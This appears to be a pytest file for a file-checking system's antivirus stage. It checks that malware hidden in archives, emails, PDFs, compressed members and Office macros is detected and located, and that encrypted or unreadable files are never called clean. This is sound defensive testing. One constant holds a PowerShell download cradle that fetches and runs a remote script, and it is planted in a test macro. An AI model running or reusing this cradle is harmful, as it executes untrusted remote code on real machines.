"""Malware inside of files, and what of a file nobody could scan (field notes on consignments, kinds 1 and 3)."""

import base64
import bz2
import gzip
import io
import lzma
import struct
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pikepdf
import pytest

from tests.fakes import contents
from tests.fakes.checking import Desk, MemoryObjects, results, scanners
from waybill.consignments.domain.checks.scanner_process import ScannerProcess
from waybill.consignments.domain.statuses import file_verdicts
from waybill.consignments.domain.tables import shipped
from waybill.consignments.models import CheckedFile

EICAR = contents.eicar()
# Found by a rule of the project in ASCII; that rule sees no other encoding.
POWERSHELL = b"IEX (New-Object Net.WebClient).DownloadString('http://example.org/a.ps1')\r\n"
WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}


@pytest.fixture(scope="module")
def process(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ScannerProcess]:
    with scanners(tmp_path_factory.mktemp("scanners")) as made:
        yield made


@pytest.fixture
def desk(process: ScannerProcess, tmp_path: Path) -> Desk:
    return Desk(tmp_path, process, MemoryObjects({}))


def message(attachment: bytes) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@example.org", "b@example.org", "Records"
    mail.set_content("They are attached.")
    mail.add_attachment(attachment, maintype="application", subtype="octet-stream", filename="tool.com")
    return mail.as_bytes()


def pdf_with(attachment: bytes) -> bytes:
    file = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["notes.txt"] = attachment
        document.save(file)
    return file.getvalue()


def macro(source: bytes) -> bytes:
    tokens = b"".join(b"\0" + source[place : place + 8] for place in range(0, len(source), 8))
    packed = b"\1" + struct.pack("<H", 0xB000 | (len(tokens) + 2 - 3)) + tokens
    return contents.compound({"Module1": bytes(2000) + packed})


def antivirus(desk: Desk, name: str, content: bytes) -> tuple[str, str, dict[str, Any]]:
    """Return the value and the detail of `Antivirus`, and the result of the scan."""
    desk.objects.contents[name] = content
    [line] = desk.check()
    verdicts = {verdict.name: verdict for verdict in file_verdicts(CheckedFile(line), None, shipped())}
    verdict = verdicts["Antivirus"]
    return verdict.value, verdict.detail, results(line)["antivirus"]


@pytest.mark.parametrize(
    ("name", "content", "place"),
    [
        (
            "a.docx",
            contents.zipped({**WORD, "word/embeddings/oleObject1.bin": EICAR}),
            "word/embeddings/oleObject1.bin",
        ),
        ("a.eml", message(EICAR), "tool.com"),
        ("a.docx", contents.zipped({**WORD, "word/a.txt": POWERSHELL}), "word/a.txt"),
        ("a.txt", POWERSHELL.decode().encode("utf-16"), "as UTF-8"),
        ("a.zip", contents.zipped({"notes.zip": contents.zipped({"tool.com": EICAR})}), "notes.zip/tool.com"),
        ("a.pdf", pdf_with(EICAR), "stream"),
        ("a.gz", gzip.compress(EICAR), "content"),
        # RFC 1952, 2.2: several members may follow each other; the rule wants the test file at its beginning.
        ("a.gz", gzip.compress(b"a") + gzip.compress(EICAR) + gzip.compress(b"b"), "member 2"),
        ("a.bz2", bz2.compress(b"a") + bz2.compress(EICAR), "member 2"),
        ("a.xz", lzma.compress(b"a") + lzma.compress(EICAR), "member 2"),
        ("a.html", b'<a href="data:x;base64,' + base64.b64encode(EICAR) + b'">', "data URL 1"),
        ("a.doc", contents.compound({"Contents": EICAR}), "Contents"),
        (
            "a.docm",
            contents.zipped({**WORD, "word/vbaProject.bin": macro(b"Attribute VB_Name = 1\r\n" + POWERSHELL)}),
            "word/vbaProject.bin/Module1 (macro 1)",
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_malware_inside_is_found_and_its_place_is_told(desk: Desk, name: str, content: bytes, place: str) -> None:
    value, detail, result = antivirus(desk, name, content)
    assert value == "VirusDetected"
    assert place in detail
    assert any(place in each["path"] for each in result["places"])


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docm", contents.zipped({**WORD, "word/vbaProject.bin": macro(b"Attribute VB_Name = 1\r\nSub A()\r\n")})),
        ("a.eml", message(b"harmless")),
        ("a.pdf", pdf_with(b"harmless")),
        ("a.pdf", contents.pdf(owner="secret")),
        ("a.txt", "Protokół".encode("utf-16")),
        ("a.docx", contents.docx()),
        ("a.xls", contents.compound({"Workbook": bytes(4000)})),
        ("a.zip", contents.zipped({"a": b"harmless"}, zipfile.ZIP_BZIP2)),
        ("a.bin", bytes(range(256)) * 100),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_clean_inside_stays_clean(desk: Desk, name: str, content: bytes) -> None:
    value, _, result = antivirus(desk, name, content)
    assert value == "Success"
    assert not result.keys() & {"places", "notScanned", "notScannedCount"}


def nested(levels: int) -> bytes:
    content = b"harmless"
    for _ in range(levels):
        content = contents.zipped({"a": content})
    return content


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("a.pdf", contents.pdf(password="secret"), "the file itself: ENCRYPTED"),
        ("a.docx", contents.ole2("EncryptionInfo", "EncryptedPackage"), "the file itself: ENCRYPTED"),
        ("a.odt", contents.encrypted_odt(), "the file itself: ENCRYPTED"),
        ("a.zip", contents.encrypted_zip("a", b"abc", b"secret"), "a: ENCRYPTED"),
        ("a.eml", message(contents.encrypted_zip("a", b"abc", b"secret")), "tool.com/a: ENCRYPTED"),
        ("a.pdf", pdf_with(contents.pdf(password="secret")), "ENCRYPTED"),
        ("a.docx", contents.zipped({**WORD, "word/e.xls": contents.ole2("EncryptedPackage")}), "word/e.xls: ENCRYPTED"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), "the file itself: BROKEN"),
        ("a.lz4", b"\x04\x22\x4d\x18" + bytes(40), "the file itself:"),
        ("a.pst", b"!BDN" + bytes(600), "the file itself: NO_READER"),
        ("a.docx", contents.docx()[:-40], "the file itself: BROKEN"),
        ("a.zip", nested(9), "DEPTH"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_could_not_be_opened_is_never_called_clean(desk: Desk, name: str, content: bytes, told: str) -> None:
    value, detail, result = antivirus(desk, name, content)
    assert value == "NotScannedInside"
    assert told in detail
    assert result["notScannedCount"] >= 1


def disc(*identifiers: bytes) -> bytes:
    """An image with these volume structure descriptors from sector 16 on (ECMA-167, part 2, 9.1)."""
    return bytes(0x8000) + b"".join((b"\0" + name + b"\1").ljust(2048, b"\0") for name in identifiers)


STORED = b"harmless".ljust(20)
# RFC 8878, 3.1.1: a frame of one segment with one raw block. LZ4's frame format 1.6.1: one block as it is.
ZSTD = bytes.fromhex("28b52ffd20") + bytes([len(STORED)]) + (1 | len(STORED) << 3).to_bytes(3, "little") + STORED
LZ4 = bytes.fromhex("04224d18604082") + (0x80000000 | len(STORED)).to_bytes(4, "little") + STORED + bytes(4)


# One sentence for each kind that nobody here opens, since what its sender can do differs.
@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("a.pst", b"!BDN" + bytes(600), "waybill.mailboxInside"),
        # It begins with zeros, as an empty tar archive does, and was called clean.
        ("a.iso", disc(b"BEA01", b"NSR02", b"TEA01"), "waybill.diskImageInside"),
        ("a.iso", disc(b"CD001", b"BEA01", b"NSR03", b"TEA01"), "waybill.diskImageInside"),
        ("a.wim", b"MSWIM\0\0\0" + bytes(300), "waybill.diskImageInside"),
        ("a.zst", ZSTD, "waybill.compressedInside"),
        ("a.lz4", LZ4, "waybill.compressedInside"),
        ("a.eml", message(ZSTD), "waybill.compressedInside"),
        ("a.zip", contents.zipped({"a.zst": ZSTD, "b.pst": b"!BDN" + bytes(600)}), "waybill.noReaderInside"),
        # Whatever else of it cannot be opened: it is protected.
        ("a.pdf", contents.pdf(password="secret")[:-300], "waybill.encryptedInside"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_no_reader_opens_is_told_by_its_kind(desk: Desk, name: str, content: bytes, rule: str) -> None:
    desk.objects.contents[name] = content
    [line] = desk.check()
    found = {verdict.name: verdict for verdict in file_verdicts(CheckedFile(line), None, shipped())}
    assert (found["Antivirus"].value, found["Antivirus"].rule) == ("NotScannedInside", rule)
    if name in {"a.zst", "a.lz4"}:
        # PRONOM has no number for them: that they are packed is told all the same.
        assert (found["FFID"].value, found["FFID"].rule) == ("Unidentified", "waybill.packedWithoutPuid")


def test_a_stream_that_could_hold_something_is_not_called_clean(desk: Desk) -> None:
    desk.large_bytes = 100
    value, detail, result = antivirus(desk, "a.zip", contents.zipped({"a": bytes(range(256))}))
    assert (value, detail) == ("NotScannedInside", "the file itself: TOO_LARGE")
    assert result["partial"] is True


def test_a_stream_of_text_is_scanned_as_it_lies_there(desk: Desk) -> None:
    desk.large_bytes = 100
    assert antivirus(desk, "a.txt", b"Minutes of the meeting.\n" * 20)[0] == "Success"


def test_a_pdf_that_makes_the_parser_fail_costs_itself(desk: Desk) -> None:
    # Field notes, kind 7: a pattern with unbounded white space took all the memory.
    desk.objects.contents |= {
        "bad.pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n/Encrypt" + b" " * 5_000_000 + b"x\n%%EOF\n",
        "good.txt": b"good",
    }
    bad, good = desk.check()
    assert bad["failureReasons"] == good["failureReasons"] == {}
